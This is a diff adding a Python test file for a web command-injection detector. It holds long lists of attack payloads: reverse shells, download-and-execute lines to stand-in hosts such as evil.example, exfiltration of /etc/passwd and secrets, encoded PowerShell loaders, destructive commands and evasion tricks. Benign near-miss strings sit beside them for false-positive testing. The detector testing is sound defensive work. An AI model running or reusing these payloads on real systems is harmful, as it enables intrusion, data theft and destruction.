@@ -1,0 +1,723 @@
+"""OS command injection written the way attackers write it (Unix shell, cmd.exe, PowerShell) beside benign near-misses."""
+from __future__ import annotations
+
+import base64
+import json
+from urllib.parse import quote, quote_plus
+from xml.sax.saxutils import escape
+
+import pytest
+
+from sensor.detect import THRESHOLD, rce, verdict
+from tests.detect.conftest import req
+
+# --- carriers: where a value reaches the application
+_BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
+
+
+def _printable(v: str) -> bool:
+    return all(" " <= c <= "~" for c in v)
+
+
+def carry(kind: str, v: str):
+    if kind == "query":
+        return req("/tools/ping?host=" + quote(v, safe=""))
+    if kind == "query2":  # double percent-encoding, decoded twice by the application
+        return req("/search?q=" + quote(quote(v, safe=""), safe=""))
+    if kind == "path":
+        return req("/api/files/" + quote(v, safe="") + "/download")
+    if kind == "form":
+        return req("/admin/diagnostics", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
+                   ("action=ping&target=" + quote_plus(v) + "&count=4").encode())
+    if kind == "json":
+        return req("/api/v2/devices/17/exec", "POST", [("Content-Type", "application/json")],
+                   json.dumps({"device": {"name": "edge-1", "probe": {"host": v, "count": 3}}}).encode())
+    if kind == "json_u":  # every non-alphanumeric character as a JSON \u escape
+        body = '{"filename": "' + "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in v) + '"}'
+        return req("/api/convert", "POST", [("Content-Type", "application/json")], body.encode())
+    if kind == "b64json":  # the application base64-decodes this field
+        return req("/api/jobs", "POST", [("Content-Type", "application/json")],
+                   json.dumps({"job": "report", "args": base64.b64encode(v.encode()).decode()}).encode())
+    if kind == "cookie":
+        return req("/account", headers=[("Cookie", "sid=8f3a2c1d9e; theme=dark; lang=" + quote(v, safe=""))])
+    if kind == "ua":
+        return req("/", headers=[("User-Agent", v)])
+    if kind == "referer":
+        return req("/", headers=[("Referer", v)])
+    if kind == "header":
+        return req("/api/status", headers=[("X-Forwarded-Host", v)])
+    if kind == "custom":
+        return req("/api/status", headers=[("X-Backup-Target", v)])
+    if kind == "xml":
+        body = f'<?xml version="1.0"?><diag><ping count="3"><host>{escape(v)}</host></ping></diag>'
+        return req("/soap/diag", "POST", [("Content-Type", "application/xml")], body.encode())
+    if kind == "xml_attr":
+        # attribute values lose raw newlines to XML normalisation: an attacker writes them as character references
+        attr = escape(v, {'"': "&quot;", "\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})
+        body = f'<?xml version="1.0"?><convert file="{attr}" format="pdf"/>'
+        return req("/soap/convert", "POST", [("Content-Type", "text/xml")], body.encode())
+    if kind == "multipart":
+        body = (f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n"
+                f"--{_BOUNDARY}\r\nContent-Disposition: form-data; name=\"convert_opts\"\r\n\r\n{v}\r\n"
+                f"--{_BOUNDARY}--\r\n")
+        return req("/upload", "POST", [("Content-Type", f"multipart/form-data; boundary={_BOUNDARY}")], body.encode())
+    raise ValueError(kind)
+
+
+_ROTATION = ("query", "form", "json", "cookie", "xml", "custom", "multipart", "query2", "json_u", "ua", "xml_attr",
+             "b64json")
+
+
+def requests_for(rows: list[str | tuple[str, str]]) -> list[tuple[str, str]]:
+    """(carrier, value) pairs: explicit carriers kept, the rest rotated over every carrier that can hold the value."""
+    out: list[tuple[str, str]] = []
+    n = 0
+    for row in rows:
+        if isinstance(row, tuple):
+            out.append(row)
+            continue
+        kind = _ROTATION[n % len(_ROTATION)]
+        n += 1
+        if kind in ("ua", "custom", "header") and not _printable(row):
+            kind = "query"
+        out.append((kind, row))
+    return out
+
+
+# --- attacks
+SEPARATORS = [
+    "127.0.0.1; id", "127.0.0.1;id", "127.0.0.1 | id", "127.0.0.1|whoami", "127.0.0.1 || uname -a",
+    "127.0.0.1 & whoami", "127.0.0.1 && cat /etc/passwd", "127.0.0.1\nid", "127.0.0.1\r\nid",
+    "8.8.8.8%0aid", "example.com`id`", "example.com$(id)", "file.txt|cat /etc/passwd",
+    "x && curl http://203.0.113.9/x.sh|sh", "report.pdf; ls -la /", "a' ; id ; '", "a\"; id; \"",
+    "\"; cat /etc/passwd #", "test$(sleep 5)", "test`sleep 5`", "'||whoami||'", "google.com\nuname -a",
+    "127.0.0.1;uname -a;cat /proc/version", "|id|", ";id;", "photo.jpg\";whoami;\"", "1;ps aux",
+    "--version;id", "img.png && ls -la /home", "user@example.com;id", "; netstat -an", "|| ifconfig",
+]
+REVERSE_SHELLS = [
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    ";bash -c 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "|nc 10.0.0.1 4444 -e /bin/bash",
+    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
+    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+    "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])'",
+    ";python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
+    "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
+    "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+    "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
+    ";socat TCP:10.0.0.1:4444 EXEC:bash",
+    "sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
+    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
+    "ncat 10.0.0.1 4444 -e /bin/bash",
+    ";busybox nc 10.0.0.1 4444 -e sh",
+    "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
+    "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
+    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.0.0.1 4444\")'",
+    "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);"
+    "$stream = $client.GetStream()\"",
+    ";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) {s |& getline c; print c |& s}}' /dev/null",
+    ";openssl s_client -quiet -connect 10.0.0.1:4444 | /bin/sh",
+    "; perl -e 'exec \"/bin/sh\";'", "; lua -e 'os.execute(\"/bin/sh\")'",
+]
+DOWNLOAD_EXEC = [
+    "wget http://203.0.113.9/x.sh -O- | sh",
+    ";wget -q -O /tmp/x http://198.51.100.7/x && chmod +x /tmp/x && /tmp/x",
+    "curl -s http://evil.example/i.sh | bash",
+    "|curl -fsSL https://evil.example/setup | sudo bash -",
+    ";curl http://evil.example/x -o /tmp/x;chmod 777 /tmp/x;/tmp/x",
+    "; busybox wget http://198.51.100.4/bot.arm7; chmod 777 bot.arm7; ./bot.arm7",
+    "cd /tmp; wget http://198.51.100.4/mips; chmod +x mips; ./mips",
+    ";cd${IFS}/tmp;wget${IFS}http://198.51.100.4/x;sh${IFS}x",
+    "$(wget -qO- http://evil.example/x|sh)",
+    "certutil -urlcache -split -f http://evil.example/a.exe C:\\Windows\\Temp\\a.exe",
+    "& certutil.exe -urlcache -f http://10.0.0.1/shell.exe shell.exe & shell.exe",
+    "bitsadmin /transfer myjob /download /priority high http://evil.example/a.exe C:\\Users\\Public\\a.exe",
+    "| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX(New-Object Net.WebClient)"
+    ".DownloadString('http://evil.example/a.ps1')\"",
+    "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')",
+    "iex (iwr http://evil.example/a.ps1 -UseBasicParsing)",
+    "mshta http://evil.example/payload.hta",
+    "& mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell\"\", 0 : window.close\")",
+    "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
+    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";GetObject(\"script:http://evil.example/a.sct\")",
+    "& cmd /c powershell -c \"Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile a.exe\"",
+    "& cmd.exe /c certutil -decode payload.b64 payload.exe",
+    "| tftp -i 10.0.0.1 GET nc.exe",
+    "python -c \"import urllib.request;exec(urllib.request.urlopen('http://evil.example/x').read())\"",
+    "& Start-Process powershell -ArgumentList '-nop -w hidden'",
+    "| msiexec /q /i http://evil.example/a.msi",
+    "& wmic process call create \"cmd /c calc.exe\"",
+    "| wmic os get /format:\"http://evil.example/a.xsl\"",
+    "& schtasks /create /tn upd /tr \"C:\\Users\\Public\\a.exe\" /sc minute",
+    "&powershell -nop -c \"(New-Object System.Net.WebClient).DownloadFile('http://evil.example/a.exe','a.exe')\"",
+    "| Invoke-Expression (New-Object Net.WebClient).DownloadString('http://e.example/x')",
+    "| powershell iwr http://evil.example/a -OutFile a.exe",
+    "; php -r 'system(file_get_contents(\"http://evil.example/x\"));'",
+]
+BLIND = [
+    ";sleep 5", "| sleep 10", "&& sleep 5 &&", "$(sleep 5)", "`sleep 5`", "; ping -c 10 127.0.0.1",
+    "| ping -n 10 127.0.0.1", "& timeout /t 10", "& ping -n 21 127.0.0.1 &", "nslookup $(whoami).attacker.example",
+    ";nslookup `whoami`.x.oast.example", "|| curl http://x.oast.example/$(id|base64)",
+    "; dig $(hostname).collab.example", "& nslookup %USERNAME%.x.oast.example", ";sleep${IFS}5;",
+    "x'; sleep 5 #", "\"|sleep 7|\"", ";ping${IFS}-c${IFS}5${IFS}127.0.0.1", "|timeout 10", "\nsleep 9\n",
+    "|| ping -n 5 127.0.0.1", "& for /f %i in ('whoami') do nslookup %i.x.oast.example",
+    "; curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+]
+EXFIL = [
+    "; cat /etc/passwd | base64", "$(cat /etc/shadow)", ";cat /etc/passwd | nc 10.0.0.1 9999",
+    "| curl -d @/etc/passwd http://evil.example", ";curl -F \"f=@/etc/shadow\" http://evil.example/up",
+    "&& wget --post-file=/etc/passwd http://evil.example", ";tar czf - /home | nc 10.0.0.1 9999",
+    "; cat ~/.ssh/id_rsa", "| type C:\\Windows\\win.ini", "& type %SYSTEMROOT%\\win.ini", ";env", ";printenv",
+    "| head -n 5 /etc/passwd", ";ls -la /root", "& dir C:\\Users", "| net user", "& net localgroup administrators",
+    "| systeminfo", "& whoami /priv", "; xxd /etc/shadow", "|sed -n 1p /etc/passwd", ";tail -n 20 /var/log/auth.log",
+    ";find / -perm -4000 -type f 2>/dev/null", "; crontab -l", ";sudo -l", "; cat /proc/self/environ",
+    "|| reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+]
+UNIX_EVASIONS = [
+    ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", "{cat,/etc/passwd}", ";w'h'o'am'i",
+    ";c\"a\"t /etc/passwd", ";\\w\\h\\o\\a\\m\\i", ";/???/c?t /e??/p?ss??", "/???/c?t /e??/p?ss??",
+    ";/bin/c[a]t /etc/passwd", ";cat ${PATH:0:1}etc${PATH:0:1}passwd", ";who$@ami", "who$@ami",
+    ";$'\\x63\\x61\\x74' /etc/passwd", ";$'\\143\\141\\164' /etc/passwd", ";echo d2hvYW1p | base64 -d | sh",
+    "echo 'bHMgLWxh' | base64 --decode | bash", ";echo imaohw | rev | sh", "$(rev<<<'imaohw')", ";w$()hoami",
+    ";wh\\oami", ";ca$@t /etc/passwd", ";c${u}at /etc/passwd", ";X=$'cat\\x20/etc/passwd'&&$X",
+    ";a=c;b=at;$a$b /etc/passwd", "$(printf '\\167\\150\\157\\141\\155\\151')", ";/usr/bin/wh?ami", ";/bin/ba?h -c id",
+    ";cat</etc/passwd", ";{ls,-la,/}", ";ls${IFS}-la", "127.0.0.1\ncat /etc/passwd", "\n/bin/cat /etc/passwd",
+    ";cat /e*c/p*d", "; \\c\\a\\t /etc/passwd", ";$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
+    "`echo d2hvYW1p|base64 -d`", ";wh''oami", ";i\\d", ";$(tr '[A-Z]' '[a-z]'<<<'WHOAMI')", "a;/b?n/?s -la",
+    ";u\\n\\a\\m\\e -a", "|c'a't${IFS}/e't'c/p'a's's'w'd", ";{wget,http://evil.example/x,-O,/tmp/x}",
+    ";${SHELL} -c id", "$(<\\/etc\\/passwd)",
+]
+WINDOWS_EVASIONS = [
+    "& WhOaMi", "| w^h^o^a^m^i", "& %COMSPEC% /c whoami", "& c^m^d /c \"who^ami\"",
+    "| type C%PATH:~0,1%windows%PATH:~0,1%win.ini", "& %COMSPEC:~-7,1%%COMSPEC:~-8,1%d /c whoami",
+    "& cmd /c \"set x=who&& set y=ami&& call %x%%y%\"",
+    ";powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
+    ";powershell -c \"sal x iex; x 'whoami'\"", "; powershell -ep bypass -c \"& ('i'+'ex') 'whoami'\"",
+    "& pow^ers^hell -c whoami", "& \"c:\\windows\\system32\\cmd.exe\" /c dir", "| type c:\\boot.ini",
+    "& echo %username%", "& start calc", "| powershell -c \"gci env:\"", "& net user hacker P@ss123 /add",
+    "& vssadmin delete shadows /all /quiet", "| Get-Content C:\\Windows\\win.ini", "; iex 'whoami'",
+    "& CmD /C WhOaMi", "| cmd /v:on /c \"set a=whoami&&!a!\"", "&& P^o^w^e^r^S^h^e^l^l -c Get-Process",
+    "; pwsh -c \"irm http://evil.example/a | iex\"",
+]
+GTFO = [
+    "; gcc -o /tmp/x /tmp/x.c", "; awk 'BEGIN {system(\"/bin/sh\")}'", ";vi -c ':!/bin/sh' /dev/null",
+    ";less /etc/passwd", ";zip /tmp/x.zip /etc/hosts -T -TT 'sh #'",
+    ";tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", ";env /bin/sh",
+    ";docker run -v /:/mnt --rm -it alpine chroot /mnt sh", ";kill -9 -1", ";rm -rf /", "; chmod 4755 /bin/bash",
+    ";echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys", "; nmap --interactive", ";timeout 7d /bin/sh",
+    ";strace -o /dev/null /bin/sh", ";xargs -a /etc/passwd -0", "|git -p help config", ";find . -exec /bin/sh \\; -quit",
+    ";ssh -o ProxyCommand=';sh 0<&2 1>&2' x", ";base64 /etc/shadow | base64 -d", "; dd if=/etc/shadow",
+    ";nohup /tmp/x &", "; mkfifo /tmp/p", ";/usr/bin/id", "& echo pwned > /var/www/html/p.txt",
+]
+SHELLSHOCK = [
+    ("ua", "() { :; }; /bin/bash -c 'id'"), ("referer", "() { :;}; echo; /bin/cat /etc/passwd"),
+    ("ua", "() { _; } >_[$($())] { id; }"), ("custom", "() { :; }; /usr/bin/wget http://evil.example/x -O /tmp/x"),
+    ("cookie", "() { :; }; ping -c 3 10.0.0.1"), ("ua", "() { ignored; }; echo Content-Type: text/plain; echo; id"),
+]
+# The same payloads carried differently: every carrier must expose them.
+CARRIED = [
+    ("ua", "Mozilla/5.0 $(curl http://evil.example/u|sh)"), ("referer", "https://shop.example/?q=;cat /etc/passwd"),
+    ("header", "127.0.0.1;id"), ("custom", "`wget http://evil.example/x -O /tmp/x`"), ("path", ";cat /etc/passwd"),
+    ("path", "$(id)"), ("xml_attr", "a.docx\"; curl http://evil.example|sh; \""), ("xml", "$(whoami)"),
+    ("json_u", "a.png;id"), ("b64json", "; cat /etc/passwd"), ("query2", "|| id"), ("cookie", ";uname -a"),
+    ("multipart", "-density 300 x.pdf; nc -e /bin/sh 10.0.0.1 4444"), ("form", "| net user"),
+]
+# Written after the detector changes for the lists above, measured once before any further tuning.
+ROUND2 = [
+    ";echo${IFS}$(id)", "|/usr/bin/curl${IFS}-d${IFS}@/etc/passwd${IFS}evil.example", "$(curl -s evil.example/$(whoami))",
+    ";ls\t-la", "127.0.0.1\n\rwhoami", "x||nslookup${IFS}x.oast.example", ";{echo,aWQ=}|{base64,-d}|bash",
+    "; echo -e '\\x69\\x64' | sh", "; printf %s 'id' | sh", ";exec 3<>/dev/tcp/10.0.0.1/80",
+    "; bash<<<$(base64 -d<<<aWQ=)", ";sh</dev/tcp/10.0.0.1/4444", "$(bash -c 'id')", "\";id;\"", ";cat /etc/hosts",
+    "| cat /etc/issue", ";uname", ";hostname", "|whoami", ";/bin/sh", "& /bin/bash -c \"id\"",
+    ";python -m http.server 8000", ";nc -lvp 4444 -e /bin/sh", ";ncat --exec cmd.exe 10.0.0.1 4444",
+    "& powershell -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://e.example/a'))\"",
+    "& powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==", "|| cmd.exe /k \"ipconfig /all\"",
+    "& ipconfig /all", "| tasklist /v", "& taskkill /f /im defender.exe", "& net view",
+    "& netsh advfirewall set allprofiles state off",
+    "& reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\a.exe",
+    "& sc create evil binPath= \"C:\\a.exe\"", "& wevtutil cl security", "& bcdedit /set {default} recoveryenabled no",
+    "& cscript //nologo C:\\Users\\Public\\a.vbs", "& wscript.exe C:\\Users\\Public\\a.js",
+    "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "| findstr /si password *.txt *.xml *.ini",
+    "&& icacls C:\\Windows\\Tasks /grant Everyone:F", ";ruby -e 'system(\"id\")'", ";php -r 'system(\"id\");'",
+    ";perl -MIO -e '$p=fork;exit,if($p);'", ";node -e \"require('child_process').execSync('id')\"",
+    ";gawk 'BEGIN{system(\"id\")}'", ";find / -name \"*.conf\" -exec cat {} \\;", "; export PATH=/tmp:$PATH",
+    ";alias ls='rm -rf /'", "; history -c", "; unset HISTFILE", ";wget -O - http://e.example/x | perl",
+    ";curl -o /tmp/.x http://e.example/x;/tmp/.x", ";cat /etc/passwd > /var/www/html/x.txt",
+    ";echo PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg== | base64 -d > shell.php", "; ls /var/www", "| ls -R /", "\n\nid",
+    ";i''d", ";wh\"\"oami", ";who``ami", ";$(which bash) -c id", ";ls $HOME", ";c\\at /etc/passwd",
+    "1' | nc 10.0.0.1 4444 #",
+]
+ROUND2_BENIGN = [
+    "R&B music", "D&D 5e character sheet", "Procter & Gamble", "Abercrombie & Fitch", "Barnes & Noble",
+    "Kids' toys; games & puzzles", "Step 1: unzip the file; Step 2: run setup.exe", "Go to Settings > Privacy > Location",
+    "A > B and B > C", "Price < $20", "<3 thanks!", "C# vs Java", "F# tutorial", "I/O error on disk 2", "TCP/IP settings",
+    "N/A", "and/or", "50/50 split", "w/ cheese", "24/7 support", "user_id: 42; role: admin",
+    "Cat excavator 320", "Dig Dug arcade", "dig safe call 811", "Time Machine backup", "tar heels basketball",
+    "zip code 10001", "gzip compression nginx", "head of marketing", "top gun maverick", "more than 5 items",
+    "make up brushes", "make a wish", "locate my phone", "chown vs chmod", "ruby ring size 7", "python snake care",
+    "node version manager", "php developer jobs", "java coffee beans", "php 8.3 release date", "python 3.12 download",
+    "ssh key github", "mysql workbench download", "docker desktop for mac", "awk meaning", "W 42nd St, New York",
+    "ex-wife", "rc car 1/10 scale", "gcc compiler install ubuntu", "Apt 4B, 123 Main St", "nice to meet you",
+    "wait for it", "less than 3 days", "sort by: newest", "fold-out sofa bed", "cut-off jeans",
+    "%appdata% folder location", "open %temp% and delete files", "edit C:\\Windows\\System32\\drivers\\etc\\hosts",
+    "how to use Get-ChildItem",
+    # carets, quotes, code spans and fences, timing words: the shapes of the newer rules
+    "x^2 + y^2 = r^2", "2^10 = 1024", "e^(i*pi) + 1 = 0", "Rock 'n' Roll | Jazz | Blues", "'Hello' | 'World'",
+    "Meeting at 3; sleep 8", "Press Ctrl+Alt+Del; then log in", "Run `npm install` and then `npm start` in the folder",
+    "```python\nimport os\nprint(os.getcwd())\n```", "Cmd+Shift+4 to take a screenshot on a Mac.",
+    "the (a|b) regex group", "kill bill | pulp fiction | jackie brown", "find & replace; undo", "tom's diner; 24h",
+    "ping: 23ms | jitter: 2ms", "done & dusted", "whoami? a journey", "Cheat Sheet: ls, cd, pwd",
+    "function() { return x; }", "foo() { bar(); }", "Mr. & Mrs. Smith", "C:\\Users\\bob\\Desktop\\notes.txt",
+    "%USERPROFILE%\\Downloads", "node_modules/.bin/tsc", "$HOME/.config", "if (a == b) { return 1; }",
+    "men's jeans|27\" monitor|cat & dog toys", "<(^_^)>", "node ../ relative import",
+    "Try http://localhost:8000 in your browser after running `python -m http.server`.",
+]
+# Round 3: written after the round-2 fixes, measured once before any further tuning.
+ROUND3 = [
+    ";${HOME:0:1}bin${HOME:0:1}cat /etc/passwd", ";cat /etc/pas*", ";cat /etc/pa??wd", ";ca\\t /et\\c/pa\\sswd",
+    "; \"c\"a't' /etc/passwd", "|| /usr/bin/id", "$( /bin/id )", ";cat$u /etc$u/passwd$u", ";cat${u} /etc/passwd",
+    ";$(printf \"\\x77\\x68\\x6f\\x61\\x6d\\x69\")", ";echo$IFS\"aWQ=\"|base64$IFS-d|sh", ";IFS=,;cat,/etc/passwd",
+    ";/bin/cat$IFS/etc/passwd", "\ncat\t/etc/passwd", ";curl${IFS}-T${IFS}/etc/passwd${IFS}evil.example",
+    ";wget --post-data=\"$(cat /etc/passwd)\" http://e.example", ";ping -c 1 $(whoami).e.example",
+    ";host $(id -u).e.example", ";curl e.example/?$(uname -a|base64)", "| dig @e.example $(cat /etc/hostname)",
+    "& powershell Resolve-DnsName $env:USERNAME.e.example",
+    "& %SYSTEMROOT%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c id", "& C:\\Windows\\System32\\cmd.exe /c whoami",
+    "| \"C:\\Program Files\\Git\\bin\\bash.exe\" -c id", "& cmd /c echo %USERNAME% > C:\\inetpub\\wwwroot\\x.txt",
+    "& type C:\\inetpub\\wwwroot\\web.config", "& copy \\\\10.0.0.1\\share\\nc.exe %TEMP%\\nc.exe",
+    "& \\\\10.0.0.1\\share\\payload.exe", "& net use \\\\10.0.0.1\\ipc$ /user:admin pass", "; sudo su -",
+    "; su -c id root", ";nohup bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' &", ";screen -dm bash -c 'sleep 1; id'",
+    ";(id)", ";{ id; }", "a || a=$(id) && echo $a", "\"$(id)\"", "1;$(id)", ";ls -la ~", ";head /etc/shadow",
+    ";more /etc/passwd", ";od -c /etc/passwd", ";strings /etc/passwd", ";diff /etc/passwd /dev/null", ";nl /etc/passwd",
+    ";sort /etc/passwd", ";tac /etc/passwd", ";grep -r password /var/www", ";mysql -u root -e 'show databases'",
+    ";psql -c 'select 1'", ";redis-cli flushall", ";kubectl get secrets -A", ";docker ps",
+    ";aws sts get-caller-identity", ";gcloud auth print-access-token",
+    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token", ";env | grep -i key", ";set", "&set", "|dir", ";pwd",
+    ";w", ";last", ";uptime",
+]
+ROUND3_BENIGN = [
+    "Tom & Jerry; Mickey & Minnie", "Buy now | Free returns | 30-day guarantee", "sleep well | eat well", "2 lbs; 3 oz",
+    "cat litter & dog food", "head-to-toe", "Yes; No; Maybe", "Pass: 8/10; Fail: 2/10", "id: 7f3a-22; status: ok",
+    "Date: 2024-05-01; Time: 14:00", "top; bottom; left; right", "Find: 'foo' | Replace: 'bar'", "who's there?",
+    "what's up; how are you", "Sort: price | rating | newest", "Ping Golf G430 driver", "Kill Devil Hills NC",
+    "Echo Park, Los Angeles", "Time Out London", "Head Start program", "Wait Wait Don't Tell Me", "Nice, France",
+    "Split, Croatia", "Paste magazine", "Free | Pro | Enterprise", "export & import business",
+    "install & setup service", "chmod 755 explained", "sudo meaning in linux", "curl hair products",
+    "python 3 vs python 2", "Ruby Tuesday menu", "php vs python for web", "docker vs kubernetes",
+    "ssh into server tutorial", "telnet star wars", "nc dmv appointment", "zip ties 12 inch", "tar sands oil",
+    "Java Chip Frappuccino", "Node 18 end of life", "gcc 13 release notes", "git cheat sheet", "vim vs emacs",
+    "kill team starter set", "find my iphone", "date night | movie night", "time: 3pm; place: cafe",
+    "Dial 911 & stay calm", "%20 in URL meaning", "100%|#####| 50/50 [00:10<00:00]", "a && b || c logic table",
+    "x = y | z bitwise", "chmod +x not working", "$PATH vs $HOME",
+]
+
+ATTACKS = requests_for(SEPARATORS + REVERSE_SHELLS + DOWNLOAD_EXEC + BLIND + EXFIL + UNIX_EVASIONS +
+                       WINDOWS_EVASIONS + GTFO + SHELLSHOCK + CARRIED + ROUND2 + ROUND3)
+
+# --- benign near-misses: prose, names, codes and snippets with the same characters and words
+BENIGN_VALUES = [
+    # separators in prose and names
+    "Tom & Jerry", "cats; dogs", "A|B testing", "Black & Decker drill", "salt & pepper", "R&D department",
+    "AT&T", "Q&A", "Johnson & Johnson baby shampoo", "rock 'n' roll", "It's 5 o'clock; time for tea",
+    "Buy 2 | Get 1 free", "Home | About | Contact", "Jim's BBQ | Best ribs in town", "100% cotton | machine wash",
+    "I love cats & dogs; mostly cats", "Crime & Punishment; War & Peace", "mac & cheese | $5", "Bed, Bath & Beyond",
+    "Marks & Spencer", "H&M", "B&B near me", "fish & chips", "Earth, Wind & Fire", "Terms & Conditions",
+    "Find & Replace", "Copy & Paste", "Sort & Filter", "Make & Model", "Wait & see", "size: M; color: red",
+    "Mon-Fri 9am-5pm | Sat 10am-2pm", "Ingredients: flour; sugar; eggs", "Please call me at 5pm; thanks!",
+    "Type: Hardcover; Pages: 320", "at&t; verizon; t-mobile", "ID card; passport", "yes | no",
+    "Leave at the back door; ring twice", "Shell & Tube heat exchanger", "Time & Date",
+    # commands as words
+    "cat food", "find a store", "sleep 8 hours", "ping me when you're back", "echo dot", "Echo Dot (5th Gen)",
+    "Cat 6 ethernet cable", "cat5e patch cable 10ft", "Kill Bill: Vol. 1", "The Cat in the Hat", "Less is more",
+    "Head First Java", "nc state basketball", "su casa es mi casa", "who am i", "ping pong table", "sleep mask",
+    "kill switch", "golf tee", "date night ideas", "more info", "How do I kill a process?", "find my order",
+    "Sort by price: low to high", "head & shoulders shampoo", "export to csv", "Sleep 5 hours; wake up refreshed",
+    "Rm 101, Bldg 5", "touch screen laptop", "watch strap 20mm", "rev limiter", "curl cream for hair",
+    "wget vs curl", "python list comprehension", "perl regex tutorial", "sleep apnea", "set of 4 mugs",
+    "top 10 gifts", "tail light bulb", "cut & sew", "split pea soup", "tr-808 drum machine", "uniq id card",
+    "time flies like an arrow", "whoami command in windows", "how to use grep", "bash script tutorial",
+    "linux ls command options", "curl vs wget", "what does && mean in bash", "the | operator in bash",
+    "use ; to separate statements", "How to set PATH on Windows 10", "How to open PowerShell in Windows 11",
+    "run cmd as administrator", "difference between > and >> in bash", "nslookup not working",
+    "Sleep Number bed", "mount everest tours", "Finger Lakes wine",
+    # money, numbers, phones, templates, paths, tokens
+    "$5", "$19.99", "under $50 & free shipping", "$5-$10", "Hello ${name}, your order ${orderId} shipped",
+    "{{user.name}}", "#{first_name}", "Dear %NAME%,", "+1 (555) 123-4567", "(212) 555-0199 ext. 42",
+    "+44 20 7946 0958", "1-800-FLOWERS", "report_2024.txt", "backup.tar.gz", "my-file (1).pdf",
+    "Install to C:\\Program Files\\Rampart", "My files are in C:\\Users\\Anna\\Documents",
+    "Error at C:\\Program Files (x86)\\Steam\\steam.exe", "\\\\fileserver\\share\\reports",
+    "Saved to D:\\Backups\\2024\\jan.zip", "john.doe+shop@example.com", "2024-01-05T10:00:00Z",
+    "font-family: Arial; font-size: 12px", "width=100;height=200", "https://example.com/search?q=shoes&page=2",
+    "5 < 10 && 10 > 5", "x = a || b;", "$(document).ready(function() { init(); });", "$('#menu').toggle();",
+    "if (a && b) { save(); }", "for i in range(10): print(i)", "O'Brien & Sons", "Ben & Jerry's",
+    "SKU: AB-1234|XL|BLUE", "tags: linux; devops; ci", "Re: your ticket #4521 | status: open",
+]
+BENIGN_HEADERS = [
+    ("ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
+    ("ua", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15"),
+    ("ua", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570"),
+    ("ua", "python-requests/2.31.0"), ("ua", "okhttp/4.12.0"), ("ua", "Go-http-client/1.1"),
+    ("referer", "https://www.google.com/search?q=cat+food&oq=cat+food&sourceid=chrome&ie=UTF-8"),
+    ("referer", "https://shop.example/c/tools?sort=price|asc&brand=Black+%26+Decker"),
+    ("cookie", "lang:en|cur:USD|tz:Europe/Berlin"), ("cookie", "GA1.2.1234567890.1700000000"),
+    ("custom", "nightly; keep=7; compress=gzip"),
+]
